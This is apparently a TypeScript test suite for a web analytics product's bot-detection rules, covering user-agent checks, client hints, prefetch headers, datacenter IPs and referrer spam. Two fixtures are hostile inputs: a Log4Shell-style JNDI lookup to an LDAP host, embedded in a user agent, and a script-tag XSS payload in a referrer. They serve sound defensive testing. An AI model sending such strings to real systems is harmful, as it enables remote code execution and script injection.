import { readFileSync } from 'node:fs'
import { BOT_REASONS, BOT_RULES, DEFAULT_SITE_SETTINGS, type SiteSettings } from '@millrace/shared'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { readAgent } from './agent.ts'
import { NAMED_PROGRAMS, programOf } from './bot-names.ts'
import {
  AGENT_RULES,
  judge,
  REQUEST_RULES,
  type ReferrerFacts,
  referrerRulesOf,
  type SenderFacts,
  senderRulesOf,
} from './bots.ts'
import { REQUEST_RATE } from './request-rate.ts'

const CHROME =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36'
const SAFARI =
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.2 Safari/605.1.15'
const FIREFOX = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0'
const BRANDS = '"Google Chrome";v="141", "Chromium";v="141"'

interface Request extends SenderFacts, ReferrerFacts {
  readonly userAgent: string
  readonly headers: Record<string, string>
}
const request = (userAgent: string, headers: Record<string, string> = {}, more: Partial<Request> = {}): Request => ({
  ...{ userAgent, headers, inDatacenter: false, spamReferrer: false, referrer: '' },
  ...more,
})

/** A request that only this rule marks, for each rule that is no name. */
const MARKED: Record<string, Request> = {
  ua_missing: request(' '),
  isbot: request('Vercelbot (+https://vercel.com)'),
  hints_headless: request(CHROME, { 'sec-ch-ua': '"HeadlessChrome";v="141", "Chromium";v="141"' }),
  ua_windows_11: request(CHROME.replace('NT 10.0', 'NT 11.0')),
  ua_cut: request(CHROME.slice(0, -1)),
  ua_placeholder: request(CHROME.replace('141.0.0.0', 'W.X.Y.Z')),
  ua_injection: request(`${CHROME} \${jndi:ldap://203.0.113.9/a}`),
  hints_other_platform: request(CHROME, { 'sec-ch-ua': BRANDS, 'sec-ch-ua-platform': '"Linux"' }),
  hints_of_firefox: request(FIREFOX, { 'sec-ch-ua': BRANDS, 'sec-ch-ua-platform': '"Windows"' }),
  hints_of_safari: request(SAFARI, { 'sec-ch-ua': BRANDS, 'sec-ch-ua-platform': '"macOS"' }),
  sec_purpose_prefetch: request(CHROME, { 'sec-purpose': 'prefetch;prerender' }),
  purpose_prefetch: request(CHROME, { purpose: 'prefetch' }),
  x_moz_prefetch: request(FIREFOX, { 'x-moz': 'prefetch' }),
  datacenter_ip: request(CHROME, {}, { inDatacenter: true }),
  referrer_spam: request(CHROME, {}, { spamReferrer: true }),
  referrer_injection: request(CHROME, {}, { referrer: 'https://a.example/<script>alert(1)</script>' }),
}
for (const { rule, token, reason } of NAMED_PROGRAMS) {
  MARKED[rule] = request(
    reason === 'ua_library' ? `${token}/1.2` : `Mozilla/5.0 (compatible; ${token}/1.2; +https://bot.example)`,
  )
}

const without = (...rules: string[]): SiteSettings => ({ ...DEFAULT_SITE_SETTINGS, disabled_bot_rules: rules })
const verdict = (sent: Request, site = DEFAULT_SITE_SETTINGS): string =>
  judge(readAgent(sent.userAgent, sent.headers).rules, senderRulesOf(sent), referrerRulesOf(sent), site)
const RULES = [...AGENT_RULES, ...REQUEST_RULES]
/** Asked in the session step, where it has its tests. */
const OF_THE_REQUEST = RULES.filter((rule) => rule !== REQUEST_RATE)

describe('a bot rule', () => {
  it.each(OF_THE_REQUEST)('$name marks what it is for, and nothing when it is switched off', ({ name, reason }) => {
    const sent = MARKED[name]!
    expect(verdict(sent)).toBe(reason)
    expect(verdict(sent, without(name))).toBe('')
    expect(verdict(sent, without(...RULES.map((rule) => rule.name).filter((other) => other !== name)))).toBe(reason)
  })

  it.each(RULES)(
    '$name has a name of its own, a source and a reason that is documented',
    ({ name, reason, source, finds }) => {
      expect(RULES.filter((rule) => rule.name === name)).toHaveLength(1)
      expect(name).toMatch(/^[a-z0-9_]{2,64}$/)
      expect(source.length).toBeGreaterThan(10)
      expect(finds).not.toBe('')
      expect(BOT_REASONS).toContain(reason)
    },
  )

  it('has its name in the list that settings are checked by', () => {
    expect(BOT_RULES).toEqual(RULES.map(({ name }) => name))
  })

  it('exists for every reason', () => {
    expect(new Set(RULES.map(({ reason }) => reason))).toEqual(new Set(BOT_REASONS))
  })
})

describe('a person', () => {
  const people = readFileSync(new URL('bots-people.tsv', import.meta.url), 'utf8')
    .replace(/\n$/, '')
    .split('\n')
    .slice(1)
  it.each(people.map((line) => line.split('\t') as [string, string, string, string]))(
    'is %s (%s)',
    (_person, _source, userAgent, headers) => {
      const pairs = headers.split(' | ').filter(Boolean)
      const sent = request(userAgent, Object.fromEntries(pairs.map((pair) => pair.split(': ') as [string, string])))
      const { agent, rules } = readAgent(sent.userAgent, sent.headers)
      expect(rules.map(({ name }) => name)).toEqual([])
      expect(verdict(sent)).toBe('')
      expect(agent.clientKind).toBe('browser')
    },
  )
})

describe('judge', () => {
  it('takes the first rule that is not switched off', () => {
    const sent = request('curl/8.5.0', { purpose: 'prefetch' }, { inDatacenter: true })
    expect(verdict(sent)).toBe('ua_library')
    expect(verdict(sent, without('curl'))).toBe('prefetch')
    expect(verdict(sent, without('curl', 'purpose_prefetch'))).toBe('datacenter_ip')
    expect(verdict(sent, without('curl', 'purpose_prefetch', 'datacenter_ip'))).toBe('')
  })

  it('does not ask isbot about a program whose name it knows', () => {
    expect(verdict(request('Googlebot/2.1'), without('googlebot'))).toBe('')
    expect(verdict(request('Googlebot/2.1'), without('isbot'))).toBe('ua_bot')
  })

  it('leaves the kind of the client as it names itself', () => {
    expect(readAgent('curl/8.5.0').agent.clientKind).toBe('library')
  })

  it('never throws, and tells the same of the same', () => {
    const value = fc.oneof(fc.string({ unit: 'binary' }), fc.integer(), fc.constant(null), fc.constant([]))
    const headers = fc.dictionary(fc.constantFrom('purpose', 'sec-purpose', 'x-moz', 'sec-ch-ua'), value)
    const names = fc.array(fc.constantFrom(...RULES.map(({ name }) => name)), { maxLength: 5 })
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), headers, names, (userAgent, sent, disabled) => {
        const { rules } = readAgent(userAgent, sent)
        const facts = { headers: sent, inDatacenter: false, spamReferrer: false, referrer: '' }
        const told = () => judge(rules, senderRulesOf(facts), referrerRulesOf(facts), without(...disabled))
        expect(told()).toBe(told())
      }),
    )
  })
})

describe('programOf', () => {
  it.each([
    ['curl/8.5.0', 'curl'],
    ['python-requests/2.32.3', 'python-requests'],
    ['Java-http-client/21', 'Java-http-client'],
    ['Mozilla/5.0 (Windows NT; Windows NT 10.0; de-DE) WindowsPowerShell/5.1', 'WindowsPowerShell'],
    ['Mozilla/5.0 (X11) PowerShell/7.4', 'WindowsPowerShell'],
    ['Slackbot-LinkExpanding 1.0', 'Slackbot-LinkExpanding'],
    ['MyApp/1.0 okhttp/4.12.0', null],
    ['Mozilla/5.0 (Linux; Android 14; Devin Phone) Chrome/141.0.0.0 Mobile Safari/537.36', null],
    ['nodeinfo', null],
    ['Javanese/1', null],
  ])('of %j is %j', (header, token) => {
    expect(programOf(header)?.token ?? null).toBe(token)
  })
})
